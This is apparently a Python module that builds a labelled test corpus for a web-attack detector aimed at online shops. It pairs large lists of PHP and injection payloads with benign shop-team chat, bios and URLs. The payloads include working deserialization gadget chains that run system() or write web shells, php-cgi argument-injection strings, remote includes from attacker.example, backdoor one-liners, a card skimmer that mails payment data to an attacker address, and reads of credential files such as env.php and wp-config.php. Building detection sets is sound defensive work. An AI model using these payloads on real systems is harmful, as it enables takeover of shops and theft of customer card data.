    # Magento 2 e-mail template filter (checkout address fields, CVE-2022-24086 style) reaching PHP system()
    "{{var this.getTemplateFilter().addAfterFilter(system)}}{{var this.getTemplateFilter().filter(id)}}",
    # Smarty 3 in PrestaShop themes / mail templates without security policy
    "{if system('id')}{/if}",
    "{system('cat config/settings.inc.php')}",
    # order-confirmation mail(): the fifth parameter (sender) and PHPMailer's sender address
    "mail('a@example.org','x','x','','-OQueueDirectory=/tmp -X/var/www/html/pub/x.php');",
    "\"attacker\\\" -oQ/tmp/ -X/var/www/html/shell.php some\"@example.org",
]

# php / php-variable-functions: the function name arrives as data (variable functions, callbacks, string building);
# target: the PHP interpreter of plugins that pass a request value to call_user_func() or a sort callback
VARF: list[Entry] = [
    "$f='system';$f('id');",
    "$a='sys'.'tem';$a($_GET['c']);",
    "$_GET['f']($_GET['c']);",
    "$_REQUEST[0]($_REQUEST[1]);",
    "$f=$_COOKIE['f'];$f($_COOKIE['c']);",
    "call_user_func('system','id');",
    "call_user_func_array('passthru',['id']);",
    "forward_static_call('system','id');",
    "array_map('system',['id']);",
    "array_filter(['id'],'system');",
    "array_reduce([0],'system','id');",
    "$a=['phpinfo()'];array_walk($a,'assert');",
    "usort(...$_GET);",
    "register_shutdown_function('system','id');",
    "ob_start('system');echo 'id';ob_end_flush();",
    "preg_replace_callback('/.+/',function($m){return system($m[0]);},'id');",
    "(strrev('metsys'))('id');",
    "('sys'.'tem')('id');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$x=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$x('id');",
    "(new ReflectionFunction('system'))->invoke('id');",
    "[new ReflectionFunction('system'),'invoke']('id');",
    "${'_GET'}['a'](${'_GET'}['b']);",
    "$x='_POST';$$x['f']($$x['c']);",
    # complex (curly) syntax inside a double-quoted string that a plugin eval()s (e-mail subject templates)
    "{${phpinfo()}}",
    "${@system($_GET[c])}",
    "{${system('cat app/etc/env.php')}}",
]

# php / php-wrappers: stream wrappers given to include(), file_get_contents() or file_exists() by theme switchers,
# template and language loaders, feed importers (feed URL / file path) and image helpers; target: the PHP
# interpreter (source disclosure, code from the request, phar deserialization, command execution)
WRAP: list[Entry] = [
    # configuration of each platform, read base64-encoded so it is not executed
    "php://filter/convert.base64-encode/resource=app/etc/env.php",
    "php://filter/read=convert.base64-encode/resource=app/etc/local.xml",
    "php://filter/convert.base64-encode/resource=../wp-config.php",
    "php://filter/read=string.rot13/resource=config/settings.inc.php",
    "php://filter/convert.base64-encode/resource=app/config/parameters.php",
    "php://filter/convert.base64-encode/resource=config.php",
    "php://filter/convert.base64-encode/resource=/var/www/shopware/.env",
    "php://filter/convert.base64-encode/resource=/proc/self/environ",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/convert.iconv.UTF-8.UTF-16LE/resource=index.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.base64-decode/resource=php://temp",
    "php://filter/resource=http://attacker.example/s.txt",
    # code from the request body or inline
    "php://input",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain,<?php system('id');?>",
    # phar deserialization through an uploaded product image or feed file (file_exists / getimagesize)
    "phar://pub/media/catalog/product/s/h/shell.jpg/test.txt",
    "phar://./wp-content/uploads/wc-logs/x.jpg",
    "phar:///var/www/html/img/p/1/2/12.jpg/a",
    "phar://var/import/feeds/marketplace.csv",
    # other wrappers
    "expect://id",
    "expect://wget -O pub/x.php https://attacker.example/s.txt",
    "zip://pub/media/import/products.zip#shell.php",
    "zip:///var/www/html/image/catalog/x.zip#s.php",
    "glob:///var/www/html/app/etc/*.php",
    "compress.zlib://php://input",
    "file:///var/www/html/app/etc/env.php",
]

# php / php-object-injection: serialized objects and arrays where a shop or a plugin unserialize()s a cookie, a
# cart, a payment additional_data field, a wishlist or a remember-me token; target: the PHP interpreter through
# the gadget classes each platform ships (Guzzle, Monolog, Symfony in Magento 2, PrestaShop 1.7 and Shopware;
# Zend Framework 1 in Magento 1; Requests in WordPress; Laravel and Faker in Shopify / BigCommerce app backends)
OBJ: list[Entry] = [
    # Guzzle FnStream: __destruct calls _fn_close (phpinfo), the probe testers send first
    'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"'
    'phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
    # the same with O:+ (accepted by PHP 5 and 7.0), past filters matching O:<digits>
    'O:+24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:'
    '"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
    # the private property name written with the S: escape form instead of raw NUL bytes
    'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{S:33:"\\00GuzzleHttp\\5cPsr7\\5cFnStream\\00methods";a:1:{s:5:"close";s:7:"'
    'phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
    # base64 of the same, for plugins that unserialize(base64_decode($_COOKIE[...]))
    'TzoyNDoiR3V6emxlSHR0cFxQc3I3XEZuU3RyZWFtIjoyOntzOjMzOiIAR3V6emxlSHR0cFxQc3I3XEZuU3RyZWFtAG1ldGhvZHMiO2E6MTp7'
    'czo1OiJjbG9zZSI7czo3OiJwaHBpbmZvIjt9czo5OiJfZm5fY2xvc2UiO3M6NzoicGhwaW5mbyI7fQ==',
    # Monolog SyslogUdpHandler / BufferHandler: system() on the buffered record (Magento 2, Shopware, PrestaShop)
    'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:'
    '{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:19:"c'
    'at app/etc/env.php";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bu'
    'fferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
    # the same inside the cart array a module keeps in a cookie
    'a:1:{s:4:"cart";O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\B'
    'ufferHandler":7:{s:10:"\x00*\x00handler";r:3;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;'
    'a:2:{i:0;s:19:"cat app/etc/env.php";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s'
    ':14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}}',
    # Guzzle FileCookieJar: writes a PHP file under pub/media on __destruct (Magento 2)
    'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:37:"/'
    'var/www/html/pub/media/wysiwyg/x.php";s:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:'
    '1;s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:'
    '"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:28:"<?php'
    ' system($_GET[\'c\']); ?>";}}}s:39:"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode";N;}',
    # Symfony WindowsPipes: deletes app/etc/env.php on __destruct, reopening the Magento installer
    'O:44:"Symfony\\Component\\Process\\Pipes\\WindowsPipes":1:{s:51:"\x00Symfony\\Component\\Process\\Pipes\\Win'
    'dowsPipes\x00files";a:1:{i:0;s:29:"/var/www/html/app/etc/env.php";}}',
    # the same against PrestaShop 1.7's parameters.php
    'O:44:"Symfony\\Component\\Process\\Pipes\\WindowsPipes":1:{s:51:"\x00Symfony\\Component\\Process\\Pipes\\Win'
    'dowsPipes\x00files";a:1:{i:0;s:39:"/var/www/html/app/config/parameters.php";}}',
    # Zend Framework 1 (Magento 1 / OpenMage): Zend_Log -> Zend_Layout inflector -> preg_replace /e
    'O:8:"Zend_Log":1:{s:11:"\x00*\x00_writers";a:1:{i:0;O:20:"Zend_Log_Writer_Mail":5:{s:16:"\x00*\x00_eventsToM'
    'ail";a:1:{i:0;i:1;}s:22:"\x00*\x00_layoutEventsToMail";a:0:{}s:8:"\x00*\x00_mail";O:9:"Zend_Mail":0:{}s:10:"'
    '\x00*\x00_layout";O:11:"Zend_Layout":3:{s:13:"\x00*\x00_inflector";O:23:"Zend_Filter_PregReplace":2:{s:16:"'
    '\x00*\x00_matchPattern";s:7:"/(.*)/e";s:15:"\x00*\x00_replacement";s:12:"system(\'id\')";}s:20:"\x00*\x00_in'
    'flectorEnabled";b:1;s:10:"\x00*\x00_layout";s:6:"layout";}s:22:"\x00*\x00_subjectPrependText";N;}}}',
    # WordPress Requests_Utility_FilteredIterator (C: custom serialization) from a WooCommerce extension's
    # wishlist cookie
    'C:33:"Requests_Utility_FilteredIterator":66:{x:i:0;a:1:{i:0;s:2:"id";};m:a:1:{s:11:"\x00*\x00callback";s:6:"'
    'system";}}',
    # ArrayObject (C:) wrapping a gadget, past filters that only look for O:
    'C:11:"ArrayObject":154:{x:i:0;O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00m'
    'ethods";a:1:{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";};m:a:0:{}}',
    # Laravel PendingBroadcast + Faker Generator in a Shopify app backend that unserializes its state
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"'
    '\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}',
    # the same with S: escaped property names
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{S:9:"\\00*\\00events";O:15:"Faker\\Generator":1:{S:13:"'
    '\\00*\\00formatters";a:1:{s:8:"dispatch";s:6:"system";}}S:8:"\\00*\\00event";s:2:"id";}',
    'Tzo0MDoiSWxsdW1pbmF0ZVxCcm9hZGNhc3RpbmdcUGVuZGluZ0Jyb2FkY2FzdCI6Mjp7czo5OiIAKgBldmVudHMiO086MTU6IkZha2VyXEdl'
    'bmVyYXRvciI6MTp7czoxMzoiACoAZm9ybWF0dGVycyI7YToxOntzOjg6ImRpc3BhdGNoIjtzOjY6InN5c3RlbSI7fX1zOjg6IgAqAGV2ZW50'
    'IjtzOjI6ImlkIjt9',
    # cart kept as a serialized array in a cookie (old OpenCart / osCommerce add-ons): price set to 0.01
    'a:1:{i:1337;a:3:{s:3:"qty";i:1;s:5:"price";d:0.01;s:3:"sku";s:9:"MB-24-BLK";}}',
    # remember-me cookie compared with == : boolean true equals any password
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    # session object with injected properties (customer id and admin flag)
    'O:8:"stdClass":2:{s:11:"customer_id";i:1;s:8:"is_admin";b:1;}',
    # Laravel gadget with assert() writing a shell into public/ of the app
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"'
    '\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"assert";}}s:8:"\x00*\x00event";s:59:"file_put_contents(\'publ'
    'ic/x.php\',\'<?php system($_GET[0]);\')";}',
    # Magento 2 guest-cart payment-information: a gadget inside payment additional_data (the REST body)
    ('{"cartId":"g7Kp2xq9Lm","paymentMethod":{"method":"checkmo","additional_data":{"po":"O:24:\\"GuzzleHttp\\\\Ps'
     'r7\\\\FnStream\\":2:{S:33:\\"\\\\00GuzzleHttp\\\\5cPsr7\\\\5cFnStream\\\\00methods\\";a:1:{s:5:\\"close\\";s'
     ':7:\\"phpinfo\\";}s:9:\\"_fn_close\\";s:7:\\"phpinfo\\";}"}},"email":"guest@example.org"}', *JB),
    # Shopware 5 backend sort / condition JSON that instantiates any class: SimpleXMLElement fetches a URL (XXE)
    '{"SimpleXMLElement":{"data":"http://attacker.example/xxe.xml","options":2,"data_is_url":true}}',
    '{"SplFileObject":{"filename":"php://filter/convert.base64-encode/resource=config.php"}}',
    # a short probe every tester sends first
    'O:8:"stdClass":0:{}',
    'a:1:{i:0;O:8:"stdClass":1:{s:1:"a";s:2:"id";}}',
    'Tzo4OiJzdGRDbGFzcyI6MDp7fQ==',
]

# php / php-config-directives: ini directives set from the request (php-cgi argument injection on shared shop
# hosting and XAMPP-on-Windows shops, PHP_VALUE through php-fpm, .user.ini and .htaccess bodies uploaded through the
# media manager); target: the PHP interpreter's configuration (code from the request body, remote includes)
CONF: list[Entry] = [
    # php-cgi argument injection (CVE-2012-1823): -d switches in the query string
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
    "-d allow_url_include=On -d auto_prepend_file=http://attacker.example/s.txt",
    "-d disable_functions= -d open_basedir=none -d auto_prepend_file=php://input",
    "-d open_basedir=/ -d auto_prepend_file=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "-d auto_prepend_file=/etc/passwd -n",
    "-d extension=/tmp/x.so",
    "-d safe_mode=Off -d suhosin.simulation=On -d allow_url_include=On -d auto_prepend_file=php://input",
    "-s",
    # the Windows best-fit soft hyphen instead of "-" (CVE-2024-4577, XAMPP shops)
    ("\xadd allow_url_include=1 \xadd auto_prepend_file=php://input", *RQ),
    # the same as raw name=value pairs, for CGI wrappers that turn pairs into -d switches
    ("allow_url_include=1&auto_prepend_file=php://input", *RQ),
    ("allow_url_fopen=On&allow_url_include=On&auto_append_file=http://attacker.example/s.txt", *RQ),
    ("auto_prepend_file=/proc/self/environ", *RF),
    ("log_errors=On&error_log=/var/www/html/pub/x.php", *RF),
    # php-fpm reached with a PHP_VALUE (CVE-2019-11043 on nginx shops): one directive per request
    "PHP_VALUE\nauto_prepend_file=php://input",
    "PHP_VALUE\nallow_url_include=On\nauto_prepend_file=http://attacker.example/s.txt",
    "PHP_VALUE\nsession.auto_start=1;;;;;;;;;;;;;;;;;;;",
    "PHP_VALUE\nerror_log=/tmp/a;;;;;;;;;;;;;;;;;;;;;;;;;;;",
    "PHP_ADMIN_VALUE\ndisable_functions=\nopen_basedir=/",
    # .user.ini uploaded into pub/media or wp-content/uploads (then every PHP file of that folder runs the image)
    "auto_prepend_file=pub/media/catalog/product/x/x/shell.jpg",
    'auto_append_file="data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"',
    # .htaccess uploaded through a theme or module zip
    'php_value auto_prepend_file "php://input"',
    "php_value auto_append_file /var/www/html/pub/media/import/x.csv",
    "AddType application/x-httpd-php .jpg\nphp_flag engine on",
    "<FilesMatch \"\\.png$\">\nSetHandler application/x-httpd-php\n</FilesMatch>",
    # runtime bypasses of disable_functions and open_basedir once code runs
    "ini_set('open_basedir','..');chdir('..');chdir('..');ini_set('open_basedir','/');"
    "echo file_get_contents('/etc/passwd');",
    "putenv('LD_PRELOAD=/var/www/html/pub/media/x.so');mail('a@example.org','','','');",
    # session.upload_progress: the progress entry written into the session file, then included
    ("PHP_SESSION_UPLOAD_PROGRESS=<?php system('id'); ?>", *RF),
]

# php / superglobals: request-controlled superglobals read by backdoors and skimmers, and superglobal overwrite
# through register_globals emulation, extract() and parse_str() in old shop software (osCommerce, Zen Cart,
# CubeCart add-ons); target: the PHP interpreter of the shop
SG: list[Entry] = [
    # register_globals / extract($_REQUEST) overwrite as raw pairs
    ("GLOBALS[_SERVER][DOCUMENT_ROOT]=http://attacker.example/", *RQ),
    ("_SESSION[customer_id]=1", *RC),
    ("_SESSION[admin][id]=1&_SESSION[admin][username]=admin", *RQ),
    ("_COOKIE[osCsid]=attacker1234&_SERVER[REMOTE_ADDR]=127.0.0.1", *RQ),
    ("_SERVER[HTTP_HOST]=attacker.example", *RF),
    ("GLOBALS[language]=../../../../etc/passwd\x00", *RF),
    # backdoors that take their command from a superglobal (named like shop cookies and headers)
    "@eval($_COOKIE['frontend_cid']);",
    "@assert($_SERVER['HTTP_X_SHOP_TOKEN']);",
    "eval($_SERVER['HTTP_USER_AGENT']);",
    "system($_ENV['CMD']);",
    "$GLOBALS['_POST']['x']($GLOBALS['_POST']['y']);",
    "extract($_POST);$a($b);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "move_uploaded_file($_FILES['f']['tmp_name'],$_POST['p']);",
    "eval(file_get_contents('php://input'));$GLOBALS['HTTP_RAW_POST_DATA'];",
    # server-side skimmer in the payment controller
    "if(isset($_REQUEST['cc_number'])){@file_put_contents('/tmp/.sess',serialize($_REQUEST),8);}",
    "@mail('drop@attacker.example','o',print_r($_POST['payment'],true));",
    # disclosure of the environment the shop runs in
    "echo $_SERVER['DOCUMENT_ROOT'];",
    "print_r($_ENV);",
    "print_r($GLOBALS);",
    "var_export($_SESSION);",
    "var_dump($_SERVER['MAGE_RUN_CODE'],getenv('DB_PASSWORD'));",
    "{${print_r($_SERVER)}}",
    # Smarty (PrestaShop) reading superglobals in a template field
    "{$smarty.server.DOCUMENT_ROOT}",
    "{$smarty.cookies|@print_r}",
    "{$smarty.env.DATABASE_URL}",
]

# php / php-file-upload: upload names that the web server executes as PHP (product images, swatches, import
# files, invoices and labels stored in the web root); target: the PHP interpreter behind Apache/nginx/IIS
UPLOAD: list[Entry] = [
    ("shell.php", *UP),
    ("invoice.pdf.php", *UP),
    ("product-image.jpg.php", *UP),
    ("swatch.php.jpg", *UP),
    ("image.phtml", *UP),
    ("label.pdf.phtml", *UP),
    ("x.php5", *UP),
    ("swatch.php7", *UP),
    ("x.pht", *UP),
    ("x.php3", *UP),
    ("x.php4", *UP),
    ("feed.phar", *UP),
    ("x.PhP", *UP),
    ("x.pHtMl", *UP),
    ("avatar.png.pHp5", *UP),
    ("x.php.", *UP),
    ("x.php ", *UP),
    ("x.php::$DATA", *UP),
    ("shell.php\x00.jpg", *UP),
    ("x.php;.jpg", *UP),
    (".htaccess", *UP),
    (".user.ini", *UP),
    ("../../pub/media/x.php", *UP),
    ("catalog_product_import.csv.php", *UP),
    ("filename*=UTF-8''shell.php", *UP),
    ("woocommerce-placeholder.php", *UP),
    ("giftcard-template.inc.php", *UP),
]

# php / php-high-risk-function-names: functions testers and backdoors call to read configuration, reach the
# network, write or delete files and escape disable_functions; target: the PHP interpreter of the shop
HR: list[Entry] = [
    "phpinfo();",
    "highlight_file('app/etc/env.php');",
    "show_source('wp-config.php');",
    "readfile('config/settings.inc.php');",
    "file_get_contents('/etc/passwd');",
    "parse_ini_file('/var/www/html/.env');",
    "fopen('pub/x.php','w');",
    "fsockopen('203.0.113.9',4444);",
    "stream_socket_client('tcp://203.0.113.9:4444');",
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/'));",
    "simplexml_load_file('http://attacker.example/xxe.xml');",
    "posix_getpwuid(posix_geteuid());",
    "get_defined_vars();",
    "getenv('DATABASE_URL');",
    "ini_get_all();",
    "symlink('/var/www/html/app/etc/env.php','pub/media/env.txt');",
    "chmod('pub/x.php',0777);",
    "unlink('app/etc/env.php');",
    "scandir('/var/www');",
    "glob('/var/www/*/app/etc/env.php');",
    "var_dump(scandir('.'));",
    "dl('x.so');",
    "error_log('<?php system($_GET[c]);?>',3,'pub/x.php');",
    "imap_open(\"{x -oProxyCommand=echo\\tZWNobyAxPi90bXAveA==|base64\\t-d|sh}\",\"\",\"\");",
    "print_r(get_defined_constants(true)['user']);",
    "gzuncompress(base64_decode($_POST['z']));",
    "str_rot13(base64_decode($_COOKIE['k']));",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBXSS),
    ("xss", "script-tag", SCRIPT),
    ("xss", "event-handler", EVENT),
    ("xss", "attribute-vector", ATTR),
    ("xss", "javascript-uri", JSURI),
    ("xss", "html-injection", HTML),
    ("xss", "svg-mathml", SVG),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOM),
    ("xss", "ie-filter-style", IE),
    ("xss", "encoded-entity", ENC),
    ("xss", "angular-vue-client-template", TPL),
    ("php", "php-open-tag", OPEN),
    ("php", "php-function-call", FUNC),
    ("php", "php-variable-functions", VARF),
    ("php", "php-wrappers", WRAP),
    ("php", "php-object-injection", OBJ),
    ("php", "php-config-directives", CONF),
    ("php", "superglobals", SG),
    ("php", "php-file-upload", UPLOAD),
    ("php", "php-high-risk-function-names", HR),
]
# fixed `name=value` entries of these sub-families are the request's own pairs, sent unquoted
RAW_KV_SUBS = {"javascript-uri", "php-config-directives", "superglobals"}

# the shop's own parameter names the real placements use
XSS_NAMES = ["q", "search_query", "s", "nickname", "detail", "billing_first_name", "order_comments", "coupon_code",
             "return_url", "filter_name", "product_name", "sSearch", "review_title"]
PHP_NAMES = ["coupon_code", "route", "controller", "file", "template", "feed_url", "cart", "additional_data",
             "callback", "sku", "giftcard_code", "price_formula"]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "cookie", "param-name", "rs-query", "rs-form", "rs-cookie", "rs-param-name",
                  "rs-raw-body")
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t"
    upload = "GIF89a"

    def name(self, category: str, sub: str, k: int) -> str:
        names = XSS_NAMES if category == "xss" else PHP_NAMES
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return "\xad" in payload   # the soft hyphen goes as the single byte 0xAD, as the exploit sends it

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return super().is_raw(sub, payload, fixed) and "\xad" not in payload


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by shop managers, support agents and developers (Slack chat and bios
# about orders, coupons, feeds, price rules, checkout errors and plugin updates; searches for colleagues; links to
# shop and provider dashboards; admin-panel notes; profiles; feed, invoice and label file names; ordinary headers)
CHAT = [
    # orders and support
    "order #100004567 is stuck in pending_payment, the IPN from PayPal never arrived, resending from the dashboard",
    "customer says the 3-D Secure popup just spins on Safari, anyone else seeing that since the Stripe update?",
    "refunded order 2024-118842 partially, shipping was charged twice",
    "can someone check why WC order 88213 has status on-hold? payment shows captured in Mollie",
    "tracking link in the shipping confirmation points to the old DHL url, fixing the template now",
    "support macro for 'where is my order' now includes the track-order page link",
    "the customer's name Zoë shows as Zo&#235; on the invoice PDF, encoding issue in the label template",
    "the order export to the ERP failed at 02:00 with 'Invalid XML: unexpected end of file', retried manually",
    "chargeback on order 771203, the AVS result was N, adding it to the fraud review sheet",
    "a shopper pasted a whole script of emojis into the order comment field, the packing slip looks funny",
    # coupons and price rules
    "coupon SUMMER24 is live, 15% off, excludes gift cards and sale items",
    "the BLACKFRIDAY coupon stacked with the cart price rule, we lost about 2k, disabled stacking",
    "gift card GC-4F7Q-9KZL-22MX shows balance 0 but the customer has the email with 50 EUR",
    "price rule 'buy 2 get 1' applies to the cheapest item, the spec said the most expensive one",
    "can we set the coupon usage limit per customer to 1? marketing keeps asking",
    "the free-shipping threshold is 49.00 in DE and 59.00 in CH, currency switch broke it yesterday",
    # feeds and imports
    "Google Merchant feed rejected 312 items: 'Invalid value [availability]', it wants in_stock not in stock",
    "the Amazon feed row looks like SKU,title,price then MB-24-BLK,Joust Duffle Bag,34.00 and that one passes",
    "ERP import choked on the description column because someone pasted HTML with an iframe from YouTube",
    "the product feed XML has CDATA around descriptions now, the marketplace parser is happy",
    "catalog_product_import.csv ran for 40 minutes, 18k rows, 12 errors about url keys already existing",
    "supplier sent the price list as xlsx again, converting to csv before the import",
    "the feed_url for the Idealo export changed, updated it in the cron config",
    # checkout errors and payments
    "checkout error: 'The payment method you requested is not available', happens only with a coupon applied",
    "Stripe webhook signature verification failed on staging, the secret was from live",
    "the Adyen notification endpoint returns 401, the HMAC key rotated, updating the config",
    "PayPal IPN posts payment_status=Completed but our listener expects lowercase, that's the bug",
    "Klarna callback arrives twice, idempotency key fixes it",
    "3DS return URL lands on /checkout/onepage/failure for Mastercard only, looking into the ACS response",
    "webhook payload for order.created looks like {\"id\":4812,\"status\":\"processing\",\"total\":\"59.90\"}",
    "the Shopify app gets orders/paid webhooks with the X-Shopify-Hmac-Sha256 header, we verify it in middleware",
    "BigCommerce store/cart/updated webhook fires on every quantity change, we debounce it",
    # plugins, themes and templates
    "WooCommerce 8.9 update went fine, the subscriptions extension needs 6.2 first",
    "Magento 2.4.7 upgrade: run setup:upgrade, then setup:di:compile, then static-content:deploy",
    "the Hyva theme uses Alpine, so x-data attributes everywhere, no more Knockout in the product page",
    "Luma checkout still uses knockout templates, the data-bind for the shipping method is in the html file",
    "in the order email template use {{var order.increment_id}} not {{var order.id}}",
    "Liquid snippet for the badge: {% if product.compare_at_price %}Sale{% endif %}",
    "Twig in Shopware 6: {{ page.product.translated.name }} is the translated name",
    "the Smarty tag {$product.name|escape:'html'} is what the PrestaShop theme uses",
    "OpenCart 4 moved the route separator, it's route=checkout/cart.add now",
    "the Vue storefront shows {{ product.name }} raw in the SSR output when the hydration fails",
    "our AngularJS admin for returns is finally getting replaced, ng-repeat all the way down",
    "the GTM dataLayer push for purchase needs transaction_id, value and currency",
    "the review widget loads its script from the CDN, CSP needs that host in script-src",
    "the CSP report shows inline script blocked on the checkout, it's the chat widget",
    "please don't use innerHTML in the minicart component, use textContent",
    "the product description editor strips the style attribute, that's why the table lost its colours",
    "the theme customizer accepts a CSS color like #ff6600 or rgb(255,102,0)",
    "the onload handler of the payment iframe resizes it, that's the flicker",
    "javascript: links are blocked by the CMS editor, use a button with the modal class instead",
    "SVG swatches are disabled in the media uploader, upload PNG please",
    # PHP and server side
    "php 8.3 on the new servers, the imagick extension is installed, exec is disabled in php.ini",
    "composer require stripe/stripe-php, then clear the cache",
    "opcache was serving the old module, php-fpm reload fixed it",
    "don't run bin/magento as root, file permissions under pub/static break",
    "the cron runs php bin/magento cron:run every minute, indexers are on schedule",
    "memory_limit is 2G for the CLI and 756M for fpm, import needs the CLI one",
    "app/etc/env.php is not in git, ask ops for the staging one",
    "wp-config.php on staging has WP_DEBUG true, please turn it off before the demo",
    "the legacy module uses unserialize on the quote data, replacing it with json_decode in 2.3",
    "eval is used in one of the old price plugins, security team wants it gone by Q3",
    "the phar extension showed up in the scan, we don't use it",
    "allow_url_fopen is on because the feed importer downloads from the supplier's FTP",
    "upload_max_filesize is 64M now, the import zip was 50M",
    "the invoice PDF generator is dompdf, labels come from the carrier API as PDF",
    "wkhtmltopdf is gone, invoices render with the headless Chrome service",
    "php://input is how the webhook controller reads the raw body for the HMAC",
    "system status page shows the cron last ran 3 minutes ago, all good",
    # bios
    "Shop manager at Nordlicht Outdoor. Orders, returns, coupons, and the occasional angry email.",
    "Magento developer, 8 years. Knockout survivor, now mostly Hyva and Alpine.js.",
    "WooCommerce and WordPress plugins. I maintain our payments integration and the feed exporter.",
    "Support lead, EMEA. Ask me about refunds, chargebacks and 3-D Secure.",
    "Payments engineer: Stripe, Adyen, PayPal IPN and webhooks. On call every third week.",
    "PrestaShop freelancer, Smarty templates and module upgrades, based in Lyon",
    "Catalog team: product feeds, SKUs, price lists and the Google Merchant Center account",
    "Frontend dev on the headless storefront (Vue, Nuxt), previously AngularJS",
    "Marketplace integrations: Amazon, eBay, Zalando feeds and order import",
    "Security champion for the shop team, I review plugin updates and CSP changes",
]

SEARCHES = [
    "nordlicht", "shop team", "payments", "checkout squad", "catalog", "feeds", "woocommerce", "magento",
    "prestashop", "opencart", "shopware", "shopify", "bigcommerce", "stripe", "adyen", "paypal", "klarna",
    "support emea", "returns desk", "coupon", "gift card", "invoices", "labels", "erp", "marketplace",
    "hyva", "alpine", "knockout", "vue", "smarty", "twig", "liquid", "php", "frontend", "script", "iframe",
    "Mary-Jane", "D'Arcy", "O'Neill", "Zoë",
]

URLS = [
    "https://dashboard.stripe.com/test/webhooks",
    "https://dashboard.stripe.com/payments?status[]=failed",
    "https://www.paypal.com/businessmanage/preferences/website",
    "https://ca-test.adyen.com/ca/ca/config/showthirdparty.shtml",
    "https://merchants.google.com/mc/products/diagnostics?a=123456789",
    "https://admin.shopify.com/store/nordlicht-outdoor/orders?status=open",
    "https://store-abc123.mybigcommerce.com/manage/orders",
    "https://shop.example.com/admin/sales/order/view/order_id/4812/",
    "https://shop.example.com/wp-admin/post.php?post=88213&action=edit",
    "https://shop.example.com/index.php?route=product/search&search=duffle",
    "https://shop.example.com/catalogsearch/result/?q=duffle+bag",
    "https://shop.example.com/index.php?controller=search&search_query=jacket",
    "https://developer.adobe.com/commerce/php/development/components/serialize/",
    "https://woocommerce.com/document/woocommerce-rest-api/",
    "https://devdocs.prestashop-project.org/8/modules/concepts/hooks/",
]

PROSE = [
    "order 100004567 pending payment",
    "coupon SUMMER24 usage report",
    "gift card balance disputes",
    "customers with failed 3-D Secure",
    "PayPal IPN retries",
    "Stripe webhook owners",
    "feed import errors June",
    "catalog_product_import owners",
    "price rule buy 2 get 1",
    "checkout team on-call",
    "invoice PDF template owners",
    "shipping label printer setup",
    "ERP export XML",
